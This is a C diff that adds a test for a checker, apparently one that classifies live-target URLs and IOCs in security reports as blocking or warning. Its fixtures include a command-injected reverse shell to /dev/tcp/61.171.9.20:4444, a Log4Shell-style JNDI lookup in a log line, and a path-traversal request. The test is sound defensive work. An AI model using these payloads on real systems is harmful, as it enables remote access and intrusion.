@@ -76,6 +76,65 @@ test_ioc_is_warning(void)
              0);
 }
 
+/* findings of @a rule (id or family) that block */
+static size_t
+count_block(const char *doc, const char *rule)
+{
+    struct emb_check_report r;
+    size_t n = 0;
+
+    if (count_rule(doc, rule, &r) == (size_t)-1)
+        return (size_t)-1;
+    for (size_t i = 0; i < r.n; i++)
+        if (!r.f[i].suppressed && r.f[i].severity == EMB_SEV_BLOCK &&
+            (strcmp(r.f[i].rule->id, rule) == 0 ||
+             strcmp(emb_check_family_name(r.f[i].rule->family), rule) == 0))
+            n++;
+    emb_check_report_free(&r);
+    return n;
+}
+
+/*
+ * The IOC role comes from the section and the line's role, not from a word
+ * nearby: no demotion in a reproduction section or for a recipe's listener,
+ * words only on their boundaries ("c2" inside "ec2-" or base64 is not C2, the
+ * victim's 关键信息基础设施 is not attacker infrastructure), a hex run only as
+ * a hash cell or a labelled hash. The twins stay warnings: an incident's
+ * attacker address, an access-log line, an IOC table row.
+ */
+static void
+test_ioc_role(void)
+{
+    static const char *const block[] = {
+        "## 漏洞复现\n\n向 http://61.171.9.20:8080/oa/up.do 发送构造的恶意数据包即可。\n",
+        "## Reproduction\n\nSend a malicious request to "
+        "https://portal.hollin-sea.com/api/x?f=..%2f "
+        "and it answers.\n",
+        "## 概述\n\n这家关键信息基础设施运营者的平台 http://61.171.9.20:8081/ui/ 无需登录。\n",
+        "## Notes\n\nThe panel at "
+        "http://ec2-13-52-9-71.us-west-1.compute.amazonaws.com:8080/admin/ is open.\n",
+        "## 说明\n\n访问 http://61.171.9.20/r?q=c2VsZWN0IDE= 返回结果。\n",
+        "## 说明\n\n访问 http://61.171.9.20/x?appkey=0a1b2c3d4e5f60718293a4b5c6d7e8f9 导出。\n",
+        "## 说明\n\n字段填入 `;bash -i >& /dev/tcp/61.171.9.20/4444 0>&1;` 保存后设备回连。\n",
+    };
+    static const char *const warn[] = {
+        "## 事件经过\n\n排查发现攻击者 IP 61.171.9.20 写入计划任务，随后从 61.171.9.21 "
+        "下载挖矿程序。\n",
+        "## 日志\n\n```\n61.171.9.20 - - [12/Dec/2021:03:14:07 +0800] \"GET "
+        "/?x=${jndi:ldap://61.171.9.20:1389/a} HTTP/1.1\" 400 0\n```\n",
+        "## 分析\n\n| 61.171.9.20 | 9a8b7c6d5e4f30211203a4b5c6d7e8f9 | 样本下载 |\n",
+        "## 分析\n\nThe host 61.171.9.20 served it, md5: 9a8b7c6d5e4f30211203a4b5c6d7e8f9\n",
+        "## 分析\n\n样本连接的 C2 为 61.171.9.20。\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
+        if (count_block(block[i], "live_target") == 0)
+            T_FAIL_AT("no blocking live target in: %s", block[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(warn); i++)
+        if (count_block(warn[i], "live_target") != 0 ||
+            count_rule(warn[i], "live_target", NULL) == 0)
+            T_FAIL_AT("not a warning in: %s", warn[i]);
+}
+
 static void
 test_urls(void)
 {
@@ -1008,6 +1067,7 @@ main(void)
     T_RUN(test_ip_glued_to_chinese);
     T_RUN(test_ip_not_live);
     T_RUN(test_ioc_is_warning);
+    T_RUN(test_ioc_role);
     T_RUN(test_urls);
     T_RUN(test_dorks);
     T_RUN(test_pass7_shapes);
